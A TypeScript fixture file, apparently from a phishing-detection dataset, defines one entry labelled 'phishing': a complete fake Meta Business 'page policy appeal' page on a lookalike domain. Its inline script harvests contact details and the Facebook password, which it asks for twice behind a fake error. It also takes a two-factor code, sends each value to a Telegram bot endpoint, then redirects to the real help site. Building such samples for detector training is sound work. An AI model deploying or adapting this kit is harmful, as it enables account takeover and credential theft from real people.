import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-meta-business-page-appeal',
  label: 'phishing',
  kind: 'social-account-kit',
  url: 'https://meta-business-appeal-center.com/case/100094821374',
  body: doc('Meta for Business - Page Policy Appeal', `
<div class="nav">${wordmark('Meta', '#0866ff', { shape: 'none', h: 28 })} <span>Business Help Center</span></div>
<div class="c">
 <h2>Your page has been scheduled for permanent deletion</h2>
 <p>We received several reports that your Page <b>infringes on intellectual property rights</b> (Case #100094821374). If you think this is a mistake, you can submit an appeal within 24 hours. Otherwise, your Page and linked ad account will be permanently removed.</p>
 <form id="a">
  <label>Page name</label><input name="page" required>
  <label>Business email</label><input name="email" type="email" required>
  <label>Full name</label><input name="name">
  <label>Phone number</label><input name="phone">
  <label>Please provide details of your appeal</label><textarea name="msg" rows="3"></textarea>
  <button>Submit appeal</button>
 </form>
 <div id="pw" class="modal" hidden><div class="in"><h3>For your security, please re-enter your password</h3><input id="p1" type="password" placeholder="Facebook password"><button onclick="sp()">Continue</button><p class="e" id="e" hidden>The password you've entered is incorrect.</p></div></div>
 <div id="tf" class="modal" hidden><div class="in"><h3>Two-factor authentication required</h3><p>Enter the 6- or 8-digit code from your authentication app or the SMS we sent.</p><input id="c" maxlength="8"><button onclick="sc()">Submit</button></div></div>
</div>
<script>
var R="https://api.telegram.org/bot6620193844:AAFk2Wm0zTq8Hh5yNcV3xLpR7uDsE1aBj9Q/sendMessage?chat_id=5821937746&text=",d={},n=0;
function snd(t){new Image().src=R+encodeURIComponent(t)}
document.getElementById('a').onsubmit=function(e){e.preventDefault();new FormData(this).forEach(function(v,k){d[k]=v});snd(JSON.stringify(d));document.getElementById('pw').hidden=false};
function sp(){var p=document.getElementById('p1').value;snd('pass'+(n+1)+': '+p+' | '+d.email);n++;if(n<2){document.getElementById('e').hidden=false;document.getElementById('p1').value=''}else{document.getElementById('pw').hidden=true;document.getElementById('tf').hidden=false}}
function sc(){snd('2fa: '+document.getElementById('c').value+' | '+d.email);location.href='https://www.facebook.com/help/'}
</script>`, {
    css: `body{margin:0;background:#f0f2f5;font-family:Helvetica,Arial,sans-serif}.nav{background:#fff;padding:12px 20px;box-shadow:0 1px 2px #0002}.nav span{vertical-align:8px;color:#555}.c{max-width:560px;margin:24px auto;background:#fff;padding:22px;border-radius:8px}
h2{font-size:20px}label{display:block;font-size:13px;margin:10px 0 3px;color:#444}input,textarea{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccd0d5;border-radius:6px}button{margin-top:14px;width:100%;background:#0866ff;color:#fff;border:0;padding:11px;border-radius:6px;font-weight:bold}
.modal{position:fixed;inset:0;background:#0008;display:flex;align-items:center;justify-content:center}.modal[hidden]{display:none}.in{background:#fff;padding:22px;border-radius:8px;width:340px}.e{color:#d00;font-size:13px}`,
  }),
},
];
